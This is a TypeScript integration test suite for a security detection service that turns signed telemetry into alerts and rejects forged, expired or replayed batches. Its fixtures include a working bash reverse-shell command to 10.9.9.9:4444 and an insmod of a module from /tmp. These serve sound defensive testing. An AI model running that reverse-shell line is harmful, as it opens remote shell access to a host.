// The intelligence service on a real nats-server and real gRPC: telemetry batches published as a
// sentinel would become explained, ATT&CK-tagged alerts on ALERTS; a malformed batch is
// dead-lettered and processing continues; unsigned, forged, unknown-key, expired and replayed
// batches are rejected to the dead-letter stream with the reason and counted; the alert and rule
// RPCs answer from the stream.
// Over 400 lines on purpose: one running service on one nats-server per file, shared by every case.
import * as grpc from '@grpc/grpc-js';
import { connectBus, DLQ_HEADERS, provision, publishBytes, subjects, type Bus } from '@omega/bus';
import { flowEvent } from '@omega/detect';
import {
  Alert,
  DetectorKind,
  Event as EventMessage,
  EventBatch,
  EventClass,
  IntelligenceServiceClient,
  KernelExtensionActivityId,
  type IntelligenceServiceService,
  NetworkActivityId,
  RuleFormat,
  Severity,
  type Event,
  type StreamAlertsResponse,
} from '@omega/proto';
import { generateHybridSecretKey, HybridSigner, loadMlDsaBackend } from '@omega/crypto';
import { createLogger, createPromiseClient, type PromiseClient } from '@omega/runtime';
import { signEventBatch } from '@omega/trust-client';
import { runService, type RunningService } from '@omega/service';
import { eventually, withNats, localServiceEnv } from '@omega/testkit';
import { AlertStore } from './alert-store';
import {
  buildIntelligence,
  INTELLIGENCE_RESOURCES,
  intelligenceServiceConfigSchema,
  type IntelligenceServiceConfig,
} from './intelligence-service';
import { processLaunch } from './testing/spec-events';
import { SpecSentinel } from './testing/spec-sentinel';

const nats = withNats({ jetstream: true });
const REVERSE_SHELL_RULE = 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02';
let running: RunningService<IntelligenceServiceConfig>;
let bus: Bus;
let store: AlertStore;
let client: IntelligenceServiceClient;
/** The unary RPCs as promises; `client` stays for the stream's wire behaviour (cancel, status). */
let calls: PromiseClient<typeof IntelligenceServiceService>;
let sentinel: SpecSentinel;

beforeAll(async () => {
  running = await runService({
    name: 'intelligence',
    configSchema: intelligenceServiceConfigSchema,
    resources: INTELLIGENCE_RESOURCES,
    installSignalHandlers: false,
    env: localServiceEnv(nats.url, {
      // Audit appends have their own spec against a real trust (alert-audit.spec.ts).
      OMEGA_INTELLIGENCE_AUDIT_ALERTS: 'false',
    }),
    build: buildIntelligence,
  });
  bus = await connectBus({
    servers: nats.url,
    name: 'sentinel-spec',
    logger: createLogger({ service: 'sentinel', level: 'silent' }),
  });
  await provision(bus, { streams: ['TELEMETRY', 'ALERTS', 'DLQ'], kv: ['omega_identities'] });
  sentinel = await SpecSentinel.enroll(bus, 'node-1');
  store = new AlertStore(bus);
  client = new IntelligenceServiceClient(
    `127.0.0.1:${running.grpcPort}`,
    grpc.credentials.createInsecure(),
  );
  calls = createPromiseClient(IntelligenceServiceClient, `127.0.0.1:${running.grpcPort}`);
}, 30_000);

nats.beforeStop(async () => {
  client?.close();
  calls?.close();
  await bus?.drain();
  await running?.service.shutdown('test done');
});

/** Publishes a batch as a sentinel does: signed, one EventBatch per subject, de-duplicated. */
function sentinelPublishes(kind: string, events: Event[]): Promise<EventBatch> {
  return sentinel.publish(kind, events);
}

/** The newest dead letter of the intelligence consumer whose error starts with `prefix`. */
async function deadLetter(prefix: string) {
  return eventually(`a dead letter '${prefix}…'`, async () => {
    const info = await bus.jsm.streams.info('DLQ', {
      subjects_filter: subjects.dlq('TELEMETRY', 'intelligence'),
    });
    for (let seq = info.state.last_seq; seq >= info.state.first_seq && seq > 0; seq--) {
      const msg = await bus.jsm.streams.getMessage('DLQ', { seq }).catch(() => null);
      if (msg?.header.get(DLQ_HEADERS.error)?.startsWith(prefix)) return msg;
    }
    return undefined;
  });
}

async function alertsWhere(predicate: (a: Alert) => boolean): Promise<Alert[]> {
  return (await store.list(undefined, 1000)).alerts.map((s) => s.alert).filter(predicate);
}

async function waitForAlert(predicate: (a: Alert) => boolean, what: string): Promise<Alert> {
  return eventually(what, async () => (await alertsWhere(predicate))[0]);
}

const POD_A = { 'omega.pod': 'cart-1' };
const reverseShellIn = (pod: string, id: string, timeNs = 1_700_000_000_000_000_000n) =>
  processLaunch(
    {
      'omega.pod': pod,
      Image: '/bin/bash',
      CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1',
      ParentImage: '/bin/bash',
    },
    { id, timeNs },
  );

describe('telemetry to alerts', () => {
  it('a reverse shell command line raises the reverse-shell rule alert, explained, on ALERTS', async () => {
    const batch = await sentinelPublishes('process', [
      processLaunch({
        ...POD_A,
        Image: '/usr/bin/node',
        CommandLine: 'node server.js',
        ParentImage: '/sbin/tini',
      }),
      reverseShellIn('cart-1', 'evt-reverse-shell'),
    ]);
    const alert = await waitForAlert(
      (a) => a.ruleId === REVERSE_SHELL_RULE,
      'the reverse-shell alert',
    );
    expect(alert).toMatchObject({
      severity: Severity.SEVERITY_HIGH,
      detectorKind: DetectorKind.DETECTOR_KIND_RULE,
      attackTechniqueIds: ['T1059.004', 'T1095'],
      node: 'node-1',
      evidence: [
        {
          eventId: 'evt-reverse-shell',
          eventIndex: 1,
          batch: expect.objectContaining({ senderId: batch.sender!.id, sequence: batch.sequence }),
        },
      ],
    });
    expect(alert.explanation).toMatch(
      /matched event evt-reverse-shell in pod shop\/cart-1 on node node-1/,
    );
    expect(alert.explanation).toContain('/dev/tcp/');
    expect(alert.reasons[0]).toMatchObject({ feature: expect.stringContaining('cmd_line') });
    // Published on omega.alerts.<severity> with the alert id as the JetStream msg id.
    const stored = await bus.jsm.streams.getMessage('ALERTS', {
      seq: (await store.get(alert.id)).seq,
    });
    expect(stored?.subject).toBe('omega.alerts.high');
    expect(stored?.header.get('Nats-Msg-Id')).toBe(alert.id);
  });

  it('a port scan sequence raises the port-scan finding alert with its sub-scores', async () => {
    const events = ['10.1.0.1', '10.1.0.2', '10.1.0.3', '10.1.0.4'].map((host, i) =>
      flowEvent({
        id: `scan-${i}`,
        timeNs: 1_700_000_000_000_000_000n + BigInt(i) * 1_000_000_000n,
        src: { ip: '10.0.0.5', workload: 'shop/scanner-1@scanner' },
        dst: { ip: host, port: 22 },
        activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
      }),
    );
    await sentinelPublishes('network', events);
    const alert = await waitForAlert(
      (a) => a.ruleId === 'detector:port-scan',
      'the port-scan alert',
    );
    expect(alert).toMatchObject({
      detectorKind: DetectorKind.DETECTOR_KIND_STREAMING,
      attackTechniqueIds: ['T1046'],
      labels: expect.objectContaining({ entity: 'pod:shop/scanner-1' }),
    });
    expect(alert.evidence.map((e) => e.eventId)).toEqual(['scan-0', 'scan-1', 'scan-2', 'scan-3']);
    expect(alert.reasons.length).toBeGreaterThan(0);
    expect(alert.explanation.length).toBeGreaterThan(20);
  });

  it('a repeat of the same rule and pod within the window raises no second alert', async () => {
    await sentinelPublishes('process', [reverseShellIn('cart-2', 'rs-a')]);
    await waitForAlert(
      (a) => a.ruleId === REVERSE_SHELL_RULE && a.evidence[0]?.eventId === 'rs-a',
      'first',
    );
    await sentinelPublishes('process', [
      reverseShellIn('cart-2', 'rs-b', 1_700_000_000_500_000_000n),
    ]);
    await eventually('the batch to be acked', async () => {
      const info = await bus.jsm.consumers.info('TELEMETRY', 'intelligence');
      return info.num_ack_pending === 0 && info.num_pending === 0 ? true : undefined;
    });
    const forPod = await alertsWhere(
      (a) => a.ruleId === REVERSE_SHELL_RULE && a.entities.some((e) => e.value === 'shop/cart-2'),
    );
    expect(forPod).toHaveLength(1);
  });

  it('a malformed batch is dead-lettered and the next batch is still processed', async () => {
    await publishBytes(
      bus,
      subjects.telemetry('process', 'node-1'),
      new Uint8Array([0x0a, 0xff, 0xff]),
    );
    await sentinelPublishes('process', [reverseShellIn('cart-3', 'after-garbage')]);
    await waitForAlert(
      (a) => a.evidence[0]?.eventId === 'after-garbage',
      'the alert after the bad batch',
    );
    const dead = await deadLetter('malformed: ');
    expect(dead.header.get(DLQ_HEADERS.reason)).toBe('rejected');
    expect(dead.header.get(DLQ_HEADERS.expectedType)).toBe(EventBatch.$type);
    expect(Buffer.from(dead.data)).toEqual(Buffer.from([0x0a, 0xff, 0xff]));
  });

  it('rejects unsigned, forged, unknown-key, expired and replayed batches; none raises an alert', async () => {
    const shell = (id: string) => [reverseShellIn(`forged-${id}`, `forged-${id}`)];
    // Unsigned: the batch a sentinel without a key would send.
    const unsigned = sentinel.batch(shell('unsigned'));
    await sentinel.publishSigned('process', unsigned, EventBatch.encode(unsigned).finish());
    // Forged: a validly signed batch whose events were swapped after signing.
    const genuine = sentinel.batch(shell('altered'));
    const signed = signEventBatch(sentinel.signer, genuine);
    const altered = Buffer.from(signed);
    altered.set(Buffer.from('forged-ALTERED'), altered.indexOf(Buffer.from('forged-altered')));
    await sentinel.publishSigned('process', genuine, altered);
    // Unknown key: signed by a key trust never issued, naming our sentinel as sender.
    const mlDsa = await loadMlDsaBackend('liboqs');
    const rogue = new HybridSigner(await generateHybridSecretKey(mlDsa), mlDsa);
    const claimed = sentinel.batch(shell('rogue'), {
      sender: { id: sentinel.id, keyId: rogue.keyId },
    });
    await sentinel.publishSigned('process', claimed, signEventBatch(rogue, claimed));
    // Expired: a sentinel whose credential ran out a minute ago keeps signing with its key.
    const nowNs = BigInt(Date.now()) * 1_000_000n;
    const lapsed = await SpecSentinel.enroll(bus, 'node-lapsed', {
      notBeforeNs: nowNs - 3_600_000_000_000n,
      notAfterNs: nowNs - 60_000_000_000n,
    });
    await lapsed.publish('process', shell('expired'));
    // Replayed: a verified batch published again later (a new msg id gets past de-duplication).
    const original = sentinel.batch(shell('replayed'));
    const originalBytes = signEventBatch(sentinel.signer, original);
    await sentinel.publishSigned('process', original, originalBytes);
    await waitForAlert((a) => a.evidence[0]?.eventId === 'forged-replayed', 'the original');
    await publishBytes(bus, subjects.telemetry('process', 'node-1'), originalBytes, {
      msgId: 'replay-attack-1',
    });

    expect((await deadLetter('unsigned: ')).header.get(DLQ_HEADERS.error)).toContain(
      'no signature (field 15)',
    );
    expect((await deadLetter('forged: ')).header.get(DLQ_HEADERS.error)).toContain(
      'signatures invalid',
    );
    expect((await deadLetter('unknown-key: ')).header.get(DLQ_HEADERS.error)).toContain(
      `unknown key ${rogue.keyId}`,
    );
    expect((await deadLetter('expired: ')).header.get(DLQ_HEADERS.error)).toContain(
      `of ${lapsed.id} is valid`,
    );
    expect((await deadLetter('replayed: ')).header.get(DLQ_HEADERS.error)).toMatch(
      /already received as stream sequence \d+/,
    );
    const raised = await alertsWhere((a) => a.evidence[0]?.eventId.startsWith('forged-') ?? false);
    expect(raised.map((a) => a.evidence[0]!.eventId)).toEqual(['forged-replayed']);
    const text = await running.service.metrics.metrics();
    for (const outcome of ['unsigned', 'forged', 'unknown-key', 'expired', 'replayed']) {
      expect(text).toMatch(
        new RegExp(`^omega_intelligence_batches_total\\{outcome="${outcome}"\\} 1$`, 'm'),
      );
    }
  });

  it('a kernel module loaded from /tmp raises the shipped kernel-module-load rule, counted as a kernel extension event', async () => {
    await sentinelPublishes('process', [
      EventMessage.fromPartial({
        id: 'evt-insmod',
        node: 'node-1',
        timeNs: BigInt(Date.now()) * 1_000_000n,
        classUid: EventClass.EVENT_CLASS_KERNEL_EXTENSION_ACTIVITY,
        actor: {
          process: { pid: 4242, executablePath: '/sbin/insmod', cmdLine: 'insmod /tmp/x.ko' },
        },
        payload: {
          $case: 'kernelExtensionActivity',
          value: {
            activityId: KernelExtensionActivityId.KERNEL_EXTENSION_ACTIVITY_ID_LOAD,
            path: '/tmp/x.ko',
            params: '',
            syscall: 'finit_module',
            result: -8n,
          },
        },
      }),
    ]);
    const alert = await waitForAlert(
      (a) => a.evidence.some((e) => e.eventId === 'evt-insmod'),
      'the kernel-module-load alert',
    );
    expect(alert.title).toBe(
      'Kernel Module Loaded from a Container or from a Temporary Directory (node node-1)',
    );
    expect(alert.attackTechniqueIds).toEqual(expect.arrayContaining(['T1547.006']));
    expect(await running.service.metrics.metrics()).toMatch(
      /^omega_intelligence_events_total\{kind="kernel_extension"\} 1$/m,
    );
  });

  it('counts events by kind, alerts by severity and batches by outcome', async () => {
    const text = await running.service.metrics.metrics();
    expect(text).toMatch(/^omega_intelligence_events_total\{kind="process"\} [1-9]/m);
    expect(text).toMatch(/^omega_intelligence_events_total\{kind="network"\} [1-9]/m);
    expect(text).toMatch(/^omega_intelligence_alerts_total\{severity="high"\} [1-9]/m);
    expect(text).toMatch(/^omega_intelligence_batches_total\{outcome="verified"\} [1-9]/m);
    expect(text).toMatch(/^omega_intelligence_batches_total\{outcome="malformed"\} 1$/m);
    expect(text).toMatch(/^omega_intelligence_alerts_suppressed_total [1-9]/m);
  });
});

describe('IntelligenceService RPCs', () => {
  it('StreamAlerts delivers a newly published alert, then ends when the client cancels', async () => {
    const call = client.streamAlerts({
      filter: {
        ruleIds: [REVERSE_SHELL_RULE],
        statuses: [],
        attackTechniqueIds: [],
        entityValue: 'shop/cart-9',
        incidentId: '',
        node: '',
        minSeverity: 0,
      },
      cursor: '',
      startTimeNs: 0n,
    });
    const received = new Promise<StreamAlertsResponse>((resolve, reject) => {
      call.on('data', resolve);
      call.on('error', reject);
    });
    await new Promise((r) => setTimeout(r, 300)); // the ordered consumer starts at "new"
    await sentinelPublishes('process', [reverseShellIn('cart-9', 'streamed')]);
    const response = await received;
    expect(response.alert?.evidence[0]?.eventId).toBe('streamed');
    expect(Number(response.cursor)).toBeGreaterThan(0);
    const ended = new Promise<grpc.ServiceError>((resolve) => call.on('error', resolve));
    call.cancel();
    expect((await ended).code).toBe(grpc.status.CANCELLED);
  });

  it('ListAlerts pages newest first and filters; GetAlert returns one by id', async () => {
    const first = await calls.listAlerts({ pageSize: 1, pageToken: '' });
    expect(first.alerts).toHaveLength(1);
    expect(first.nextPageToken).not.toBe('');
    const second = await calls.listAlerts({ pageSize: 1, pageToken: first.nextPageToken });
    expect(second.alerts[0]!.id).not.toBe(first.alerts[0]!.id);
    const all = await calls.listAlerts({ pageSize: 1000, pageToken: '' });
    expect(all.alerts[0]!.id).toBe(first.alerts[0]!.id);
    const scans = await calls.listAlerts({
      filter: {
        attackTechniqueIds: ['T1046'],
        ruleIds: [],
        statuses: [],
        entityValue: '',
        incidentId: '',
        node: '',
        minSeverity: 0,
      },
      pageSize: 0,
      pageToken: '',
    });
    expect(scans.alerts.map((a) => a.ruleId)).toEqual(['detector:port-scan']);
    const high = await calls.listAlerts({
      filter: {
        minSeverity: Severity.SEVERITY_HIGH,
        attackTechniqueIds: [],
        ruleIds: [],
        statuses: [],
        entityValue: '',
        incidentId: '',
        node: '',
      },
      pageSize: 0,
      pageToken: '',
    });
    expect(high.alerts.length).toBeGreaterThan(0);
    expect(high.alerts.every((a) => a.severity >= Severity.SEVERITY_HIGH)).toBe(true);

    expect((await calls.getAlert({ alertId: scans.alerts[0]!.id })).alert).toEqual(scans.alerts[0]);
    await expect(calls.getAlert({ alertId: 'no-such-alert' })).rejects.toMatchObject({
      code: grpc.status.NOT_FOUND,
    });
  });

  it('ListRules returns the shipped pack and the detectors; ValidateRules checks a rule without loading it', async () => {
    const { rules } = await calls.listRules({
      kind: 0,
      attackTechniqueId: 'T1059',
      includeDisabled: false,
      includeSource: true,
      pageSize: 0,
      pageToken: '',
    });
    expect(rules.map((r) => r.id)).toContain(REVERSE_SHELL_RULE);
    expect(rules.find((r) => r.id === REVERSE_SHELL_RULE)).toMatchObject({
      format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
      sourceName: 'execution/reverse-shell.yml',
      source: expect.stringContaining('/dev/tcp/'),
    });
    expect(rules.find((r) => r.id === REVERSE_SHELL_RULE)!.matchCount).toBeGreaterThan(0n);

    const result = await calls.validateRules({
      sources: [
        {
          name: 'bad.yml',
          format: RuleFormat.RULE_FORMAT_SIGMA_YAML,
          content:
            'title: x\nlogsource: {category: process_creation}\ndetection: {condition: nope}\n',
        },
      ],
    });
    expect(result.valid).toBe(false);
    expect(result.diagnostics[0]).toMatchObject({ source: 'bad.yml' });
  });

  // Last: it shuts the service down.
  it('StreamAlerts ends cleanly when the service drains', async () => {
    const call = client.streamAlerts({ cursor: '', startTimeNs: 0n });
    const status = new Promise<grpc.StatusObject>((resolve) => call.on('status', resolve));
    call.on('data', () => undefined);
    call.on('error', () => undefined);
    await new Promise((r) => setTimeout(r, 200));
    await running.service.shutdown('drain test');
    expect((await status).code).toBe(grpc.status.OK);
  });
});
